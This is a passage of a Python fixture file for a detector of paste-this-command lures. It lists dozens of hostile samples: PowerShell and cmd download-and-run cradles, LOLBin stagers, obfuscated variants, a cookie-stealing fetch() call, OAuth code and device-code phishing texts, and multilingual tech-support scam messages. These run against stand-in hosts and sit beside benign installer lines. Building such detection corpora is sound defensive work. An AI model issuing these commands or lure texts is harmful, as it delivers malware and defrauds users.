            "powershell -c \"$w=New-Object -ComObject WinHttp.WinHttpRequest.5.1;$w.Open('GET','http://198.51.100.243/w',$false);$w.Send();iex $w.ResponseText\"",
        ),
        (
            "ioc-ps-wininstaller",
            "powershell -c \"$i=New-Object -ComObject WindowsInstaller.Installer;$i.UILevel=2;$i.InstallProduct('https://keld-mirror.example/p.msi','')\"",
        ),
        (
            "ioc-msiexec",
            '"C:\\WINDOWS\\system32\\msiExEc.exe" -PaCkAgE http:\\\\thwaite.test\\tmp\\..\\verify\\..\\88012 /q',
        ),
        ("ioc-rundll32", "rundll32.exe \\\\muker-files.invalid\\check\\verifyme.dll,Entry"),
        (
            "ioc-rundll32",
            'rundll32 javascript:"\\..\\mshtml,RunHTMLApplication ";document.write();GetObject("script:https://reeth.example/r.sct")',
        ),
        ("ioc-regsvr32", "regsvr32 /s /n /u /i:http://203.0.113.139/r.sct scrobj.dll"),
        (
            "ioc-conhost",
            '"C:\\WINDOWS\\system32\\conhost.exe" --headless cmd /c "md %LOCALAPPDATA%\\Temp\\wx&curl -skLo %LOCALAPPDATA%\\Temp\\wx\\t https://arncliffe.test/d&pushd %LOCALAPPDATA%\\Temp\\wx&tar xf t&del t&rundll32 libcurl.dll,#3"',
        ),
        (
            "ioc-finger",
            '%COMSPEC% /k s^t^a^r^t "" /min for /f "skip=7 delims=" %i in (\'f^^i^^n^^g^^e^^r kq2Lx@hubberholme.invalid\') do call %i',
        ),
        (
            "ioc-finger-renamed",
            "cmd /c copy %windir%\\System32\\finger.exe %TEMP%\\ct.exe & %TEMP%\\ct.exe cap@198.51.100.167 | cmd",
        ),
        (
            "ioc-nslookup",
            'cmd /c "nslookup -type=TXT run.yockenthwaite.example 203.0.113.124 | findstr /r \\"^Name:\\" > %TEMP%\\n.txt & for /f \\"tokens=2\\" %x in (%TEMP%\\n.txt) do powershell -enc %x"',
        ),
        (
            "ioc-net-use",
            'cmd /c net use W: http://198.51.100.128/webdav /persistent:no && "W:\\update.cmd" & net use W: /delete /y',
        ),
        (
            "ioc-pcalua",
            "pcalua.exe -a \"powershell\" -c \"s=([wmiclass]'Win32_ProcessStartup').CreateInstance();s.ShowWindow=0;([wmiclass]'Win32_Process').Create('cmd /v/c pushd \\\\buckden.test@SSL\\ & rundll32 gc.key,#1',null,s)\"",
        ),
        (
            "ioc-syncappv",
            'SyncAppvPublishingServer.vbs "Break; iwr https://cray-edge.invalid/s -UseB | iex"',
        ),
        (
            "ioc-cscript",
            'cmd /c "curl -s http://203.0.113.123:5506/qk.vbs -o %TEMP%\\qk.vbs >nul && wscript.exe //B //E:VBScript %TEMP%\\qk.vbs"',
        ),
        (
            "ioc-vbs-echo",
            'cmd /c echo Set x=CreateObject("MSXML2.XMLHTTP"):x.Open "GET","https://starbotton.example/p",0:x.Send:Execute x.responseText > %TEMP%\\u.vbs & cscript //nologo %TEMP%\\u.vbs',
        ),
        (
            "ioc-certutil",
            "certutil.exe -urlcache -f https://kettlewell.test/v.txt %PUBLIC%\\v.exe & %PUBLIC%\\v.exe",
        ),
        (
            "ioc-bitsadmin",
            "bitsadmin /transfer upd /download /priority foreground https://conistone.invalid/u.exe C:\\Users\\Public\\u.exe && C:\\Users\\Public\\u.exe",
        ),
        (
            "ioc-expand-cab",
            "cmd /c expand \\\\198.51.100.215\\pub\\p.cab -F:* %TEMP% && %TEMP%\\p.exe",
        ),
        (
            "ioc-ftp-script",
            'cmd /c "echo open 203.0.113.143>%TEMP%\\f&echo anonymous>>%TEMP%\\f&echo get s.exe %TEMP%\\s.exe>>%TEMP%\\f&echo bye>>%TEMP%\\f&ftp -s:%TEMP%\\f&%TEMP%\\s.exe"',
        ),
        (
            "ioc-curl-tar-rundll",
            "cmd /c curl -sko %TEMP%\\p.tar https://grassington.example/p && tar -xf %TEMP%\\p.tar -C %TEMP% && rundll32 %TEMP%\\p\\core.dll,Start",
        ),
        ("ioc-wt", 'wt.exe -w 0 nt powershell -w h -c "iex(irm https://linton-ops.test/w)"'),
        (
            "ioc-explorer-search-ms",
            "search-ms:query=Verification&crumb=location:\\\\threshfield.invalid@SSL\\DavWWWRoot\\v&displayname=Verify",
        ),
        (
            "ioc-ps-sls-cache",
            "powershell -w h -c \"gci $env:TEMP -Filter *.tmp|%{$c=gc $_.FullName -Raw;if($c -match 'PG21:(.+?):PG21'){iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($matches[1])))}}\"",
        ),
        ("ioc-ps-alias-wild", "& (gcm *e-ex*) (& (gcm i*-w*b*) 'https://hetton.example/z' -UseB)"),
        ("ioc-ps-dir-path", "& (dir \\W*\\*32\\m?h?a.e*) https://cracoe.test/v.hta"),
        (
            "ioc-ps-gi-path",
            '& (gi C:\\W*\\S*64\\W*P*\\v1*\\p*l.exe) -c "iex(irm https://rylstone.invalid/g)"',
        ),
        (
            "ioc-ps-backtick",
            'p`o`w`e`r`s`h`e`l`l -w h -c "i`e`x(i`r`m https://burnsall.example/b)"',
        ),
        ("ioc-ps-join", "iex (-join('ht','tps://','hebden','-gate.test/j') | % { irm $_ })"),
        ("ioc-ps-replace", "iex ((irm 'https://appletreewick.invalid/q').Replace('#!',''))"),
        ("ioc-ps-split-index", "$s='xiexhttps://skyreholme.example/i';iex (irm $s.Substring(4))"),
        (
            "ioc-cmd-carets",
            carets("cmd /c powershell -w h -c iex(irm https://barden-tower.test/c)", 3),
        ),
        (
            "ioc-cmd-slice",
            f'cmd /c "set p=rlhpwseo&& call {cmd_slice("powershell", "rlhpwseo", "p")} -w h -c iex(irm https://howgill.invalid/s)"',
        ),
        (
            "ioc-cmd-envslice",
            'cmd /c "set z=mshta .ptsh:/inx& call %z:~0,5% https://dentdale.example/z.hta"',
        ),
        ("ioc-ip-hex", 'powershell -c "iex(irm http://0xcb.0x00.0x71.0xe3/h)"'),
        (
            "ioc-ip-int",
            f'powershell -c "iwr http://{ip_int("198.51.100.227")}/d -OutFile $env:TEMP\\d.exe; & $env:TEMP\\d.exe"',
        ),
        ("ioc-unc-exe", "\\\\203.0.113.147\\tools\\captcha.exe"),
        ("ioc-lnk-webdav", "cmd /c start \\\\ribblehead.test@SSL\\DavWWWRoot\\invoice.lnk"),
    ]
    for tech, text in iocs:
        L.ioc(tech, text)
    # IOC lines from macOS/Linux reports (pasted into a terminal)
    L.ioc(
        "ioc-macos-osascript",
        "curl -s https://dentdale-updates.invalid/u.scpt -o /tmp/u.scpt && osascript /tmp/u.scpt",
        TERM,
        "macos",
    )
    L.ioc(
        "ioc-macos-b64",
        f"echo '{b64('curl -fsSL http://203.0.113.224/m | zsh')}'|base64 -D|zsh",
        TERM,
        "macos",
    )
    L.ioc(
        "ioc-linux-curl",
        "curl -s https://selside.example/admin/assets/js/lib.sh -o /tmp/lib.sh && chmod +x /tmp/lib.sh && /tmp/lib.sh",
        TERM,
        "linux",
    )
    L.ioc(
        "ioc-linux-wget",
        "wget -q http://198.51.100.166/x86 -O /tmp/.x && chmod 777 /tmp/.x && /tmp/.x",
        TERM,
        "linux",
    )
    L.ioc(
        "ioc-wt-hex",
        f"$e='{hex_str('irm https://horton-ribble.test/w|iex')}';iex(-join(($e -split '(?<=\\G..)'|?{{$_}})|%{{[char][byte]('0x'+$_)}}))",
        TERM,
    )
    L.ioc(
        "ioc-wt-charsum",
        "iex([string]::new([char[]](105,114,109,32,104,116,116,112,115,58,47,47,99,108,97,112,104,97,109,46,105,110,118,97,108,105,100,47,99,124,105,101,120)))",
        TERM,
    )

    # ------------------------------------------------------------------------------------------
    # 8. 2026 social wrappers: AI-assistant installers, TikTok/YouTube "activate", fake drivers,
    #    fake game invites, fake meeting updates, multi-stage pastes
    # ------------------------------------------------------------------------------------------
    social = [
        (
            "ai-installfix",
            TERM,
            "https://claude-code-install.ai-tools-hub.test/windows",
            "irm https://claude-cli.anthropic-dl.example/install.ps1 | iex",
            "windows",
        ),
        (
            "ai-installfix",
            TERM,
            "https://cursor-ide.download-center.invalid/",
            "curl -fsSL https://cursor-agent.ide-cdn.test/install | bash",
            "macos",
        ),
        (
            "ai-installfix",
            TERM,
            "https://openai-codex.cli-setup.example/",
            "npm i -g https://codex-cli.npm-mirror.invalid/codex-0.9.tgz && codex --login",
            "any",
        ),
        (
            "ai-installfix",
            TERM,
            "https://ollama-models.gpu-setup.test/",
            "curl -fsSL https://ollama-sh.modelhub.example/install.sh | sudo sh",
            "linux",
        ),
        (
            "ai-chat-share",
            TERM,
            "https://chatgpt-share.conversation-link.invalid/c/7d1e",
            'bash -c "$(curl -fsSL https://diskcleaner-pro.test/run)"  # as suggested by ChatGPT to free storage',
            "macos",
        ),
        (
            "ai-agent-skill",
            TERM,
            "https://mcp-servers.skill-market.example/weather",
            "curl -s https://mcp-weather.tools-cdn.invalid/setup.sh | bash && claude mcp add weather ~/.mcp/weather",
            "macos",
        ),
        (
            "tiktok-activate",
            RUN,
            "https://tiktok-tips.video-guide.test/@winhacks/activate",
            'powershell -c "irm https://get-activation.win-keys.example | iex"',
        ),
        (
            "tiktok-activate",
            TERM,
            "https://youtube-tutorial.free-premium.invalid/spotify",
            "iex (irm https://spotx-free.crackhub.test/run.ps1)",
            "windows",
        ),
        (
            "tiktok-activate",
            RUN,
            "https://tiktok-tech.hacks-daily.example/office-free",
            "powershell iwr -useb https://office-activator.kms-tools.invalid | iex",
        ),
        (
            "fake-driver-fix",
            RUN,
            "https://nvidia-geforce.driver-repair.test/error-43",
            "cmd /c curl -sLo %TEMP%\\gfx.msi https://gfx-driver.repairdesk.example/gfx.msi && msiexec /i %TEMP%\\gfx.msi /qn",
        ),
        (
            "fake-driver-fix",
            RUN,
            "https://realtek-audio.codec-fix.invalid/no-sound",
            'powershell -w h -c "iwr https://audiocodec-pack.test/rt.exe -o $env:TEMP\\rt.exe; saps $env:TEMP\\rt.exe -Verb RunAs"',
        ),
        (
            "fake-codec",
            RUN,
            "https://vlc-player.codec-missing.example/hevc",
            "msiexec /i https://hevc-codec.mediapack.invalid/HEVCVideoExtension.msi /quiet",
        ),
        (
            "fake-game-invite",
            RUN,
            "https://discord-gg.game-invite.test/playtest/hollowreach",
            'powershell -w h -c "iwr https://hollowreach-beta.example/launcher.zip -o $env:TEMP\\l.zip; Expand-Archive $env:TEMP\\l.zip $env:APPDATA\\HR -Force; & $env:APPDATA\\HR\\Launcher.exe"',
        ),
        (
            "fake-game-invite",
            CON,
            "https://steam-playtest.key-claim.invalid/",
            "fetch('https://playtest-keys.test/api/redeem',{method:'POST',credentials:'include',body:JSON.stringify({c:document.cookie,s:sessionStorage})})",
            "any",
        ),
        (
            "fake-meeting-update",
            RUN,
            "https://teams-live.meeting-join.example/update-required",
            "mshta https://teams-update.cdn-msft.invalid/TeamsUpdater.hta",
        ),
        (
            "fake-meeting-update",
            TERM,
            "https://zoom-workplace.update-now.test/mac",
            "curl -fsSL https://zoom-sdk.meeting-update.example/ZoomAudioDevice.sh | bash",
            "macos",
        ),
        (
            "fake-meeting-update",
            RUN,
            "https://gotomeeting-join.webinar-room.invalid/",
            'cmd /c start /min powershell -w h -c "iex(irm https://g2m-plugin.test/p)"',
        ),
        (
            "multi-stage",
            RUN,
            "https://cloudflare-ray.site-protect.example/step-1",
            'cmd /c "echo powershell -w h -c iex(irm https://forcett.invalid/2) > %TEMP%\\s.cmd && start /min %TEMP%\\s.cmd"',
        ),
        (
            "multi-stage",
            TERM,
            "https://github-verify.actions-check.test/",
            "git clone -q https://gitfix-mirror.example/verify-tool /tmp/vt && bash /tmp/vt/verify.sh",
            "linux",
        ),
        (
            "multi-stage",
            RUN,
            "https://booking-extranet.partner-verify.invalid/step2",
            "powershell -w h -c \"$a=irm https://stanwick.test/1;$b=irm ('https://stanwick.test/2?k='+$a);iex $b\"",
        ),
        (
            "crashfix",
            RUN,
            "https://chrome-recovery.browser-crash.example/fix",
            'cmd /c start "" /min cmd /c "copy /y %SystemRoot%\\System32\\finger.exe %LOCALAPPDATA%\\cf.exe & %LOCALAPPDATA%\\cf.exe ok@203.0.113.154 | cmd"',
        ),
        (
            "crashfix",
            RUN,
            "https://edge-recovery.extension-repair.invalid/",
            'powershell -w h -c "Stop-Process -Name chrome -Force; iex(irm https://nexgard-ext.test/r)"',
        ),
        (
            "fake-captcha-mobile",
            UNK,
            "https://recaptcha-mobile.verify-device.example/",
            "Open the Run box on your PC (Win+R), press Ctrl+V and Enter to finish verification on this phone: mshta https://mobilelink-verify.test/pair.hta",
        ),
    ]
    for tech, target, page, text, *plat in social:
        L.lure(tech, target, page, text, platform=plat[0] if plat else "windows")

    # ------------------------------------------------------------------------------------------
    # 9. More fixture-style obfuscations, listed bare (other detectors' fixtures have no page)
    # ------------------------------------------------------------------------------------------
    fixtures = [
        ("fx-ps-set-alias", "sal g iwr; sal e iex; e (g https://hawes-cdn.test/a -UseB)"),
        (
            "fx-ps-variable-cmd",
            "$c='Invoke-Expression';$d='Invoke-RestMethod';& $c (& $d 'https://gayle.invalid/v')",
        ),
        ("fx-ps-scriptblock", "[ScriptBlock]::Create((irm https://askrigg.example/s)).Invoke()"),
        (
            "fx-ps-invoke-command",
            "icm -ScriptBlock ([scriptblock]::Create((New-Object Net.WebClient).DownloadString('https://carperby.test/i')))",
        ),
        (
            "fx-ps-env-stage",
            "$env:q='irm https://redmire.invalid/e|iex'; powershell -w h -c $env:q",
        ),
        (
            "fx-ps-char-add",
            "iex ([char]105+[char]114+[char]109+' https://wensley.example/c|'+[char]105+[char]101+[char]120)",
        ),
        (
            "fx-ps-bxor-string",
            f"$k=7;iex(-join([char[]]'{''.join(chr(ord(c) ^ 7) for c in 'irm https://leyburn.test/x|iex')}'|%{{[char]([int]$_ -bxor $k)}}))",
        ),
        (
            "fx-ps-tick-cmdlet",
            "I`nv`oKe-`Ex`pRe`sSi`oN (I`Nv`OkE-`ReS`TmE`ThOd https://spennithorne.invalid/t)",
        ),
        (
            "fx-ps-getcommand",
            "&(Get-Command I*e-Ex*ion) (&(Get-Command I*-Re*Me*) https://harmby.example/g)",
        ),
        ("fx-ps-dot-source", ". ([scriptblock]::Create((irm https://bellerby.test/d)))"),
        (
            "fx-ps-mshta-child",
            "Start-Process -WindowStyle Hidden mshta.exe -ArgumentList 'https://preston-scar.invalid/m.hta'",
        ),
        (
            "fx-ps-compressed-enc",
            "powershell -e "
            + b64_utf16(
                "iex(New-Object IO.StreamReader(New-Object IO.Compression.GzipStream((iwr https://castle-bolton.example/z -UseB).RawContentStream,'Decompress'))).ReadToEnd()"
            ),
        ),
        ("fx-cmd-quotes", 'c""md /c p""owershe""ll -w h -c "iex(irm https://aysgarth.test/q)"'),
        (
            "fx-cmd-comspec-slice",
            "%COMSPEC:~-7,1%%COMSPEC:~-11,1%%COMSPEC:~-5,1% /c powershell -w h iex(irm https://thoralby.invalid/s)",
        ),
        (
            "fx-cmd-for-delims",
            "cmd /c for /f \"tokens=*\" %a in ('curl -s https://newbiggin.example/c') do %a",
        ),
        (
            "fx-cmd-call-set",
            'cmd /c "set u=https://bishopdale.test/b&& call powershell -w h -c iex(irm %u%)"',
        ),
        (
            "fx-mshta-vbscript",
            'mshta vbscript:Execute("CreateObject(""WScript.Shell"").Run ""powershell -w h -c iex(irm https://swinithwaite.invalid/v)"",0:close")',
        ),
        (
            "fx-mshta-javascript",
            "mshta \"javascript:a=GetObject('script:https://walden-head.example/j.sct');close()\"",
        ),
        ("fx-rundll32-url", "rundll32.exe url.dll,OpenURL https://cotterdale.test/l.hta"),
        (
            "fx-rundll32-shell32",
            "rundll32 shell32.dll,ShellExec_RunDLL powershell -w h -c iex(irm https://hardraw.invalid/r)",
        ),
        ("fx-odbcconf", "odbcconf /a {REGSVR \\\\198.51.100.246\\s\\o.dll}"),
        (
            "fx-installutil",
            "cmd /c curl -so %TEMP%\\i.dll https://simonstone.example/i && C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\InstallUtil.exe /logfile= /LogToConsole=false /U %TEMP%\\i.dll",
        ),
        (
            "fx-xwizard",
            "xwizard RunWizard /taero /u {00000001-0000-0000-0000-0000FEEDACDC} & powershell -w h iex(irm https://sedbusk.test/x)",
        ),
        ("fx-replace-exe", "replace.exe \\\\203.0.113.116\\d\\u.exe %TEMP% /A & %TEMP%\\u.exe"),
    ]
    for tech, text in fixtures:
        L.ioc(tech, text)

    # ------------------------------------------------------------------------------------------
    # 10. Tech-support and callback scam texts (≥ 12 languages), each with a 555 phone number
    # ------------------------------------------------------------------------------------------
    scams = [
        (
            "support-scam-en",
            "WINDOWS DEFENDER SECURITY ALERT\nYour computer has been locked due to suspicious activity (Error #DW6VB36). Your banking passwords and photos are at risk.\nDo not restart or shut down. Call Microsoft Support immediately: +1 (555) 014-2276 (toll free)",
        ),
        (
            "support-scam-en",
            "Apple Security Notice: your iCloud account was used to sign in from Lagos, Nigeria. Your Mac is infected with 3 viruses. Call Apple Care now at 1-555-018-7730 to block the transaction.",
        ),
        (
            "support-scam-de",
            "ACHTUNG: Ihr PC wurde aus Sicherheitsgründen gesperrt. Es wurde ein Trojaner (Zeus.X) gefunden. Schalten Sie den Computer nicht aus! Rufen Sie sofort den Microsoft-Support an: 0800 555 4419",
        ),
        (
            "support-scam-fr",
            "Alerte de sécurité Windows : votre ordinateur est bloqué. Vos données bancaires risquent d'être volées. N'éteignez pas votre PC et appelez immédiatement l'assistance au 01 55 55 82 19 (appel gratuit).",
        ),
        (
            "support-scam-es",
            "Su equipo ha sido bloqueado por actividad sospechosa. Sus datos personales están en peligro. Llame inmediatamente al soporte técnico de Windows: +34 555 902 114. No cierre esta ventana.",
        ),
        (
            "support-scam-it",
            "ATTENZIONE: il tuo computer è stato bloccato per motivi di sicurezza. Virus rilevato: Trojan Spyware. Chiama subito l'assistenza Microsoft al numero verde 800 555 612. Non spegnere il computer.",
        ),
        (
            "support-scam-pt",
            "Alerta de segurança: o seu computador foi bloqueado devido a atividade suspeita. Ligue imediatamente para o suporte da Microsoft: +351 555 210 884. Não reinicie o computador.",
        ),
        (
            "support-scam-nl",
            "Uw computer is geblokkeerd vanwege verdachte activiteit. Uw bankgegevens lopen gevaar. Bel direct Microsoft Ondersteuning: 0800-555-0291. Sluit deze pagina niet.",
        ),
        (
            "support-scam-pl",
            "Twój komputer został zablokowany z powodu wykrycia wirusa. Nie wyłączaj komputera. Zadzwoń natychmiast do pomocy technicznej Microsoft: +48 555 301 774.",
        ),
        (
            "support-scam-tr",
            "Bilgisayarınız güvenlik nedeniyle kilitlendi! Banka bilgileriniz tehlikede. Bilgisayarı kapatmayın ve hemen Microsoft Destek hattını arayın: 0850 555 1832",
        ),
        (
            "support-scam-ru",
            "ВНИМАНИЕ! Ваш компьютер заблокирован из-за подозрительной активности. Обнаружен троян. Не выключайте компьютер и немедленно позвоните в службу поддержки Microsoft: 8-800-555-31-47",
        ),
        (
            "support-scam-ja",
            "警告：お使いのコンピューターはウイルスに感染しているため、ロックされました。電源を切らないでください。今すぐマイクロソフトサポートにお電話ください：0120-555-218",
        ),
        (
            "support-scam-zh",
            "安全警告：您的电脑因可疑活动已被锁定，银行账户信息可能被盗。请勿关机，立即拨打微软技术支持热线：400-555-7731",
        ),
        (
            "support-scam-ar",
            "تحذير أمني: تم قفل جهاز الكمبيوتر الخاص بك بسبب نشاط مشبوه. لا تقم بإيقاف تشغيل الجهاز. اتصل بدعم مايكروسوفت فورًا على الرقم ‎+971 555 014 882",
        ),
        (
            "support-scam-ko",
            "경고: 귀하의 컴퓨터가 바이러스 감염으로 잠겼습니다. 컴퓨터를 끄지 마십시오. 지금 즉시 마이크로소프트 지원 센터로 전화하십시오: 080-555-2941",
        ),
        (
            "support-scam-sv",
            "Varning! Din dator har låsts på grund av misstänkt aktivitet. Stäng inte av datorn. Ring Microsoft Support omedelbart: 020-555 71 93",
        ),
        (
            "support-scam-el",
            "Προειδοποίηση ασφαλείας: ο υπολογιστής σας κλειδώθηκε λόγω ύποπτης δραστηριότητας. Μην τον απενεργοποιήσετε. Καλέστε αμέσως την υποστήριξη της Microsoft: 800 555 1186",
        ),
        (
            "support-scam-hi",
            "चेतावनी: आपका कंप्यूटर वायरस के कारण लॉक कर दिया गया है। कंप्यूटर बंद न करें। तुरंत Microsoft सहायता को कॉल करें: 1800 555 3314",
        ),
        (
            "support-scam-id",
            "Peringatan keamanan: komputer Anda diblokir karena aktivitas mencurigakan. Jangan matikan komputer. Segera hubungi dukungan Microsoft di 0800-555-1420.",
        ),
        (
            "support-scam-vi",
            "Cảnh báo: máy tính của bạn đã bị khóa do phát hiện virus. Không tắt máy. Hãy gọi ngay bộ phận hỗ trợ Microsoft: 1800 555 047",
        ),
        (
            "support-scam-isp",
            "Your internet connection has been suspended by your provider because malware was detected on this network. To restore service call the Xfinity security desk at (555) 013-9917 within 30 minutes.",
        ),
        (
            "callback-en",
            "Order confirmation #PP-88213-US\nThank you for your purchase of Norton 360 Deluxe (3 years) – $499.99 has been charged to your account today.\nIf you did not authorize this payment, call our billing department within 24 hours: +1 555-017-4420",
        ),
        (
            "callback-en",
            "Geek Squad auto-renewal: your annual protection plan renews today for $389.00. To cancel and receive a refund, call 1 (555) 016-3381. Invoice GS-2026-5551.",
        ),
        (
            "callback-de",
            "Ihre Bestellung über 1.249,00 € (MacBook Air M4) wurde bestätigt und wird heute versandt. Falls Sie diese Bestellung nicht aufgegeben haben, rufen Sie sofort unseren Kundenservice an: 030 555 81 904",
        ),
        (
            "callback-fr",
            "Votre abonnement McAfee Total Protection a été renouvelé pour 349,99 €. Pour annuler et obtenir un remboursement, appelez le service facturation au 09 55 55 12 40 sous 24 heures.",
        ),
        (
            "callback-es",
            "Su pedido de Amazon n.º 402-5550391 por 899,00 € (iPhone 16 Pro) ha sido confirmado. Si no reconoce esta compra, llame a nuestro departamento de fraude: 900 555 318",
        ),
        (
            "callback-it",
            "Il pagamento di 599,00 € per il rinnovo di PayPal Protection è stato addebitato. Se non hai autorizzato l'operazione chiama subito il numero 02 5550 1187.",
        ),
        (
            "callback-pt-br",
            "Sua compra de R$ 4.899,00 no Mercado Pago foi aprovada. Não reconhece? Ligue agora para a central antifraude: 0800 555 4471",
        ),
        (
            "callback-pl",
            "Twoje zamówienie nr 77120 na kwotę 3 499 zł zostało opłacone. Jeśli nie składałeś zamówienia, zadzwoń natychmiast na infolinię: 22 555 41 09.",
        ),
        (
            "callback-ja",
            "【Amazon】ご注文ありがとうございます。iPad Pro（149,800円）のお支払いが完了しました。お心当たりのない場合は、24時間以内にサポートセンター 03-5555-0148 までお電話ください。",
        ),
    ]
    scam_pages = [
        "https://microsoft-alert.security-scan.test/win/",
        "https://apple-care.icloud-alert.example/",
        None,
        "https://defender-warning.pc-locked.invalid/de/",
        None,
    ]
    for i, (tech, text) in enumerate(scams):
        page = scam_pages[i % len(scam_pages)]
        L.lure(tech, UNK, page, text, expect="flagged", platform="any")

    # ------------------------------------------------------------------------------------------
    # 11. ConsentFix (a loopback redirect with an OAuth code), device-code phishing, verify tails
    # ------------------------------------------------------------------------------------------
    consent = [
        "http://localhost:8400/?code=1.AXkAq3f9Lm0TzkqJ8p2vQ7xR-Ww0AgIGTEMMZpn_qXPc2bAAA.AgABBAIAAADW6jl31mB3T7ugrWTT8pFeAwDs_wUA9P-VfX8&state=Zq81kLm2&session_state=0c4a7d9e-2b1f-4e8a-9c3d-5f6e7a8b9c0d",
        "http://127.0.0.1:53177/callback?code=0.ARsA4xB2pQ9vRkm1Z8tY3nK7cV-1GkPnL4DqRm8sT2uW5xYz&state=b21c7f&client_info=eyJ1aWQiOiJhYmMifQ",
        "localhost:8080/auth/redirect?code=M.C532_BL2.2.U.9f3e1a7b-22c4-8d1e-44aa-0c6f2e8d9b71&state=8812",
        "http://localhost/?code=4/0AeanS0b9XkP2mZq8rT1vW3yC5eG7iK9lN0pR2tV4xZ6&scope=https://www.googleapis.com/auth/drive",
        "Paste the address from your browser here to finish connecting: http://localhost:8400/?code=1.AVEAf2Gh7Kz0N1mQxP8wR4tY6uI9oL3jS5dF&state=q9w8e7",
        "http://[::1]:8765/oauth2/callback?code=ghu_9Qk2LmZx7Vb4Np1Rt8Wy3Cs6Dj0Hf5Ga&state=ab12cd",
    ]
    consent_pages = [
        "https://azure-portal.signin-help.test/consent",
        "https://sharepoint-access.request-portal.example/grant",
        "https://teams-addin.connect-app.invalid/finish",
        "https://google-drive.share-access.test/continue",
        "https://m365-admin.tenant-verify.example/link",
        "https://github-app.authorize-flow.invalid/",
    ]
    for i, text in enumerate(consent):
        L.lure("consentfix", UNK, consent_pages[i], text, expect="flagged", platform="any")

    devcode = [
        "To keep access to the shared payroll file, sign in at https://microsoft.com/devicelogin and enter the code HQ7-K2MR. The code expires in 15 minutes.",
        "IT Security: your mailbox must be re-verified today. Open https://microsoft.com/devicelogin and type code FJX9QPLT, then approve the prompt on your phone.",
        "Teams meeting host requires device verification → go to microsoft.com/devicelogin, enter D8KQ-3PWZ, pick your work account.",
        "Für den Zugriff auf das freigegebene Dokument öffnen Sie https://microsoft.com/devicelogin und geben Sie den Code RZ4T-9MNB ein.",
        "Pour consulter la facture, ouvrez https://microsoft.com/devicelogin et saisissez le code WQ2L8XHK puis validez avec votre compte professionnel.",
        "Your GitHub organisation requires re-authorisation: visit https://github.com/login/device and enter code 7C3D-91AF to keep your repositories.",
    ]
    dev_pages = [
        "https://payroll-share.hr-docs.test/q4",
        None,
        "https://teams-join.meeting-lobby.example/",
        "https://docs-freigabe.cloud-files.invalid/",
        None,
        "https://github-org.security-review.test/",
    ]
    for i, text in enumerate(devcode):
        L.lure("device-code-phish", UNK, dev_pages[i], text, expect="flagged", platform="any")

    tails = [
        (
            "url-verify-tail",
            RUN,
            "https://pangbourne.test/v/verify.hta"
            + pad(40)
            + "# ✅ I am human - Cloudflare Turnstile ID 83-21",
        ),
        (
            "url-verify-tail",
            RUN,
            "http://198.51.100.212/captcha.cmd     ' reCAPTCHA verification complete ID 4471",
        ),
        (
            "url-verify-tail",
            RUN,
            "\\\\cookham-share.invalid@SSL\\DavWWWRoot\\verify.bat"
            + pad(30, NBSP)
            + "# Verification ID: 22918",
        ),
        (
            "url-verify-tail",
            EXP,
            "https://sonning.example/open/Document_Scan.lnk"
            + pad(80)
            + "# C:\\Users\\Public\\Scans\\Document_Scan.pdf",
        ),
        (
            "url-verify-tail",
            RUN,
            "https://marsh-benham.test/fix.msi ::: Google Meet microphone fix ID 7714",
        ),
        (
            "url-verify-tail",
            RUN,
            "https://whitchurch-on.invalid/s.vbs"
            + pad(25, IDSP)
            + "# 人間であることを確認しました ID 5530",
        ),
        (
            "url-verify-tail",
            RUN,
            "ms-appinstaller:?source=https://hambleden.example/Zoom.appinstaller  # Zoom update required",
        ),
        (
            "url-verify-tail",
            RUN,
            "search-ms:query=Scan&crumb=location:\\\\medmenham.test@SSL\\DavWWWRoot\\s&displayname=Scans    # Booking invoice",
        ),
    ]
    tail_pages = [
        "https://cloudflare-human.site-check.example/",
        "https://recaptcha-v3.verify-session.test/",
        None,
        "https://onedrive-scan.doc-preview.invalid/",
        "https://meet-google.mic-fix.example/",
        "https://line-verify.jp-check.invalid/",
        "https://zoom-update.client-required.test/",
        "https://booking-invoice.guest-pay.example/",
    ]
    for i, (tech, target, text) in enumerate(tails):
        L.lure(tech, target, tail_pages[i], text)
    return L


def lines(block: str) -> list[str]:
    return [ln for ln in block.strip("\n").split("\n") if ln.strip()]


def items(block: str) -> list[str]:
    return [it.strip("\n") for it in block.strip("\n").split("\n~~~\n") if it.strip()]


def add(
    out: list[Benign], kind: str, target: str, sources: list[str | None], texts: list[str]
) -> None:
    for i, text in enumerate(texts):
        out.append((kind, target, sources[i % len(sources)], text))


# Real projects' documented install lines, each with the project's own page (README.md,
# "Blind-21": found with find_string/read_file over public GitHub README files and install-script
# headers; none of their owner/repo names or hosts in sets 1-20, checked by script)
INSTALLERS: list[tuple[str, str]] = [
    (
        "https://github.com/quadra-a/achat",
        "curl -fsSL https://raw.githubusercontent.com/quadra-a/achat/main/install.sh | sh -s -- --to ~/.local/bin",
    ),
    (
        "https://github.com/rohansx/agidb",
        "curl -fsSL https://raw.githubusercontent.com/rohansx/agidb/master/install.sh | sh -s -- --tag v0.1.0-dev.1",
    ),
    (
        "https://github.com/maleolabs/anvil/releases",
        "curl -fsSL https://github.com/maleolabs/anvil/releases/latest/download/install.sh | sh -s -- --to ~/.local/bin",
    ),
    (
        "https://github.com/maleolabs/eka-cli",
        "curl -fsSL https://github.com/maleolabs/eka-cli/releases/latest/download/install.sh | sh -s -- --completion zsh",
    ),
    (
        "https://markdown2pdf.eu/",
        "curl -fsSL https://markdown2pdf.eu/install.sh | sh -s -- --to ~/.local/bin",
    ),
    ("https://scan.2oo.dev/", "irm https://scan.2oo.dev/cli/install.ps1 | iex"),
    ("https://scan.2oo.dev/", "curl -fsSL https://scan.2oo.dev/cli/install.sh | sh"),
    (
        "https://github.com/WangZhongDian/mihomo-tui",
        'sudo bash -c "$(curl -fsSL https://raw.githubusercontent.com/WangZhongDian/mihomo-tui/main/scripts/install.sh)"',
    ),
    (
        "https://github.com/felix068/PDF-installer",
        'sudo bash -c "$(curl -fsSL https://raw.githubusercontent.com/felix068/PDF-installer/main/Install.sh)"',
    ),
    (
        "https://github.com/distillium/remnawave-backup-restore",
        'sudo mkdir -p /opt/rw-backup-restore && sudo bash -c "$(curl -fsSL https://raw.githubusercontent.com/distillium/remnawave-backup-restore/main/backup-restore.sh)"',
    ),
    (
        "https://github.com/anzpx/dendrite-docker-compose",
        'sudo bash -c "$(curl -fsSL https://raw.githubusercontent.com/anzpx/dendrite-docker-compose/main/install_dendrite.sh)"',
    ),
    (
        "https://github.com/r2pc/tor-bridge",
